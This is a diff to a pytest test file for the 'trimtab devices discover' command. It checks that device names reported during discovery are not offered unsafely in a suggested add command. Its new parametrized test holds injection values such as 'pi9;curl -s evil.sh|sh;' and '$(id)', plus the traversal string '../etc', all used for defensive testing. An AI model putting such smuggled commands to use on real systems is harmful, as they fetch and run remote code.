@@ -28,14 +28,15 @@ def inventory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[], I
 
 @pytest.fixture
 def discovered(inventory: Callable[[], Inventory], monkeypatch: pytest.MonkeyPatch) -> Discovered:
-    """``discovered(found, ...)``: what ``--add`` says of each."""
+    """``discovered(found, ...)``: what ``--add`` says of each; ``options`` in its place."""
 
-    def run(*heard: Found) -> list[str]:
+    def run(*heard: Found, options: tuple[str, ...] = ("--add",)) -> list[str]:
         async def discover(seconds: float) -> tuple[Found, ...]:
             return heard
 
         monkeypatch.setattr("trimtab.cli.devices_discover.discover", discover)
-        outcome = CliRunner().invoke(cli, ["devices", "discover", "--add"], standalone_mode=False)
+        command = ["devices", "discover", *options]
+        outcome = CliRunner().invoke(cli, command, standalone_mode=False)
         assert outcome.exception is None, outcome.exception
         rows = [line for line in outcome.output.splitlines() if "0123abcd" in line]
         return [row.strip("│ ").split("│")[-1].strip() for row in rows]
@@ -46,11 +47,19 @@ def discovered(inventory: Callable[[], Inventory], monkeypatch: pytest.MonkeyPat
 def test_a_name_that_is_none_is_not_added(
     discovered: Discovered, inventory: Callable[[], Inventory]
 ) -> None:
-    said = discovered(found("../etc"), found("all"), found(""))
-    assert [each.partition(":")[0] for each in said] == ["no", "no", "no"]
-    assert all("not a name for a device" in each for each in said)
-    assert discovered(found("local")) == ["yes, at this machine"]
+    said = discovered(found("../etc"), found("all"), found(""), found("local"))
+    assert len(said) == 4
+    assert all(each.startswith("no: it tells no usable name") for each in said)
     assert [device.name for device in inventory().devices()] == ["local"]
+
+
+@pytest.mark.parametrize("name", ["pi9;curl -s evil.sh|sh;", "$(id)", "local", "and", "", "-x"])
+def test_only_a_name_that_may_be_pasted_is_offered(discovered: Discovered, name: str) -> None:
+    (said,) = discovered(found(name), options=())
+    assert said.endswith("trimtab devices add NAME tls://192.0.2.7:7433")
+    assert discovered(found("pi5"), options=()) == [
+        "no: trimtab devices add pi5 tls://192.0.2.7:7433"
+    ]
 
 
 def test_two_that_have_the_same_name_are_one_device(
